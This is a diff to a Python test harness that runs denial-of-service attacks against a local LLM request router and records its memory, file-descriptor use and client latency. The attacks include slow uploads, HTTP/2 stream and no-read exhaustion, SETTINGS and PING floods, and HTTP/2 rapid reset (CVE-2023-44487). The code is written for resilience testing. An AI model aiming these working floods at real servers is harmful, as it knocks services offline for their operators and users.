@@ -14,13 +14,14 @@ bounded in time and count.
 from __future__ import annotations
 
 import asyncio
+import multiprocessing
 import os
 import socket
 import threading
 import time
 from collections.abc import Callable
 from pathlib import Path
-from typing import Any
+from typing import Any, Protocol
 
 import h2.config
 import h2.connection
@@ -41,6 +42,22 @@ __all__ = ["abuse", "ATTACKS"]
 _MIB = 1 << 20
 
 
+class Stop(Protocol):
+    """What an attack waits on: a threading.Event or a multiprocessing one."""
+
+    def is_set(self) -> bool: ...
+
+    def wait(self, timeout: float | None = None) -> bool: ...
+
+
+_MP = multiprocessing.get_context("spawn")
+ATTACKER = "127.0.0.2"  # the attackers' source address: the normal clients' is 127.0.0.1
+
+
+def _connect(addr: tuple[str, int], timeout: float) -> socket.socket:
+    return socket.create_connection(addr, timeout=timeout, source_address=(ATTACKER, 0))
+
+
 def _addr(url: str) -> tuple[str, int]:
     host, port = url.split("://", 1)[1].rsplit(":", 1)
     return host, int(port)
@@ -51,7 +68,7 @@ def _body(**kw: Any) -> bytes:
 
 
 def _h2(addr: tuple[str, int], window: int | None = None) -> tuple[socket.socket, h2.connection.H2Connection]:
-    s = socket.create_connection(addr, timeout=5)
+    s = _connect(addr, 5)
     c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
     c.initiate_connection()
     if window is not None:
@@ -89,7 +106,7 @@ def _drain(s: socket.socket, c: h2.connection.H2Connection | None = None) -> boo
 # -- the attacks: each runs until `stop` is set ---------------------------------------
 
 
-def _uploads(addr: tuple[str, int], stop: threading.Event, n: int, head: bytes, piece: bytes, every_s: float) -> None:
+def _uploads(addr: tuple[str, int], stop: Stop, n: int, head: bytes, piece: bytes, every_s: float) -> None:
     """n HTTP/1.1 uploads that send `head`, then `piece` every `every_s`; one that the
     router closes (408, or a reset) is opened again."""
     socks: list[socket.socket | None] = [None] * n
@@ -98,7 +115,7 @@ def _uploads(addr: tuple[str, int], stop: threading.Event, n: int, head: bytes, 
             s = socks[i]
             try:
                 if s is None:
-                    s = socket.create_connection(addr, timeout=2)
+                    s = _connect(addr, 2)
                     s.sendall(head)
                     socks[i] = s
                 s.sendall(piece)
@@ -114,13 +131,13 @@ def _uploads(addr: tuple[str, int], stop: threading.Event, n: int, head: bytes, 
             s.close()
 
 
-def slow_body(addr: tuple[str, int], stop: threading.Event, n: int = 300) -> None:
+def slow_body(addr: tuple[str, int], stop: Stop, n: int = 300) -> None:
     """n HTTP/1.1 clients each sending its body at 1 byte per second (reconnecting)."""
     head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n" % len(_body())
     _uploads(addr, stop, n, head, b"{", 1.0)
 
 
-def h2_idle_streams(addr: tuple[str, int], stop: threading.Event, connections: int = 2, streams: int = 520) -> None:
+def h2_idle_streams(addr: tuple[str, int], stop: Stop, connections: int = 2, streams: int = 520) -> None:
     """HEADERS and a little DATA, never END_STREAM, on many streams of a few connections."""
     conns: list[tuple[socket.socket, h2.connection.H2Connection] | None] = [None] * connections
     while not stop.is_set():
@@ -148,7 +165,7 @@ def h2_idle_streams(addr: tuple[str, int], stop: threading.Event, connections: i
             x[0].close()
 
 
-def h2_no_read(addr: tuple[str, int], stop: threading.Event, streams: int = 16) -> None:
+def h2_no_read(addr: tuple[str, int], stop: Stop, streams: int = 16) -> None:
     """Long streamed answers on a connection whose flow-control window stays 0."""
     s, c = _h2(addr, window=0)
     for _ in range(streams):
@@ -169,13 +186,14 @@ def h2_no_read(addr: tuple[str, int], stop: threading.Event, streams: int = 16) 
     s.close()
 
 
-def h1_no_read(addr: tuple[str, int], stop: threading.Event, n: int = 16) -> None:
+def h1_no_read(addr: tuple[str, int], stop: Stop, n: int = 16) -> None:
     """Long streamed answers (an engine's pace: 2 ms a token) to HTTP/1.1 clients that never read."""
     body = _body(stream=True, max_tokens=20000, mock={"tokens": 20000, "tpot_ms": 2})
     socks = []
     for _ in range(n):
         s = socket.socket()
         s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        s.bind((ATTACKER, 0))
         s.connect(addr)
         s.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body))
         socks.append(s)
@@ -184,11 +202,11 @@ def h1_no_read(addr: tuple[str, int], stop: threading.Event, n: int = 16) -> Non
         s.close()
 
 
-def fin_churn(addr: tuple[str, int], stop: threading.Event, rate: float = 30.0) -> None:
+def fin_churn(addr: tuple[str, int], stop: Stop, rate: float = 30.0) -> None:
     """One request per connection, then the client's FIN (the CLOSE-WAIT pattern)."""
     while not stop.is_set():
         try:
-            with socket.create_connection(addr, timeout=2) as s:
+            with _connect(addr, 2) as s:
                 s.sendall(b"GET /health HTTP/1.1\r\nhost: x\r\n\r\n")
                 s.recv(4096)
                 s.shutdown(socket.SHUT_WR)
@@ -197,7 +215,7 @@ def fin_churn(addr: tuple[str, int], stop: threading.Event, rate: float = 30.0) 
         stop.wait(1.0 / rate)
 
 
-def _flood(addr: tuple[str, int], stop: threading.Event, frame: Callable[[h2.connection.H2Connection, int], None]) -> None:
+def _flood(addr: tuple[str, int], stop: Stop, frame: Callable[[h2.connection.H2Connection, int], None]) -> None:
     i = 0
     while not stop.is_set():
         try:
@@ -216,15 +234,15 @@ def _flood(addr: tuple[str, int], stop: threading.Event, frame: Callable[[h2.con
         stop.wait(0.05)
 
 
-def settings_flood(addr: tuple[str, int], stop: threading.Event) -> None:
+def settings_flood(addr: tuple[str, int], stop: Stop) -> None:
     _flood(addr, stop, lambda c, i: c.update_settings({h2.settings.SettingCodes.MAX_HEADER_LIST_SIZE: 65536 + i % 1000}))
 
 
-def ping_flood(addr: tuple[str, int], stop: threading.Event) -> None:
+def ping_flood(addr: tuple[str, int], stop: Stop) -> None:
     _flood(addr, stop, lambda c, i: c.ping(i.to_bytes(8, "big")))
 
 
-def rapid_reset(addr: tuple[str, int], stop: threading.Event) -> None:
+def rapid_reset(addr: tuple[str, int], stop: Stop) -> None:
     """HEADERS + DATA + RST_STREAM in one write, again and again (CVE-2023-44487)."""
     body = _body(max_tokens=16)
 
@@ -237,7 +255,7 @@ def rapid_reset(addr: tuple[str, int], stop: threading.Event) -> None:
     _flood(addr, stop, frame)
 
 
-def chunked_one_byte(addr: tuple[str, int], stop: threading.Event, n: int = 8) -> None:
+def chunked_one_byte(addr: tuple[str, int], stop: Stop, n: int = 8) -> None:
     """Chunked uploads in 1-byte chunks, as fast as the socket takes them."""
     head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n"
     _uploads(addr, stop, n, head, b"1\r\nx\r\n" * 2000, 0.01)
@@ -328,19 +346,27 @@ def abuse(*, attacks: list[str] | None = None, duration_s: float = 15.0, rate: f
             stop = threading.Event()
             peak = {"rss": 0, "fds": 0}
 
-            def sample(stop: threading.Event = stop, peak: dict[str, int] = peak) -> None:
+            def sample(stop: Stop = stop, peak: dict[str, int] = peak) -> None:
                 while not stop.wait(0.25):
                     peak["rss"] = max(peak["rss"], rss_bytes(pid, tree=False))
                     peak["fds"] = max(peak["fds"], _fds(pid))
 
-            th = threading.Thread(target=fn, args=(addr, stop), name=f"attack-{name}", daemon=True)
+            # the attacker in a process of its own: as a thread it would share this
+            # process's GIL with the normal clients and inflate their measured TTFT by
+            # the interpreter's switch interval (5 ms), which is not the router's doing
+            halt = _MP.Event()
+            th = _MP.Process(target=fn, args=(addr, halt), name=f"attack-{name}", daemon=True)
             sm = threading.Thread(target=sample, name="sampler", daemon=True)
             th.start()
             sm.start()
             time.sleep(1.0)  # let the attack take hold
             res = _normal(url, rate, duration_s)
+            halt.set()
             stop.set()
             th.join(15)
+            if th.is_alive():
+                th.kill()
+                th.join(5)
             sm.join(5)
             rest, fds_after = _at_rest(url, pid, quiet_fds)
             rows.append({"attack": name, "what": what, "normal": res, "rss_mib": peak["rss"] / _MIB, "rss_delta_mib": (peak["rss"] - quiet_rss) / _MIB,
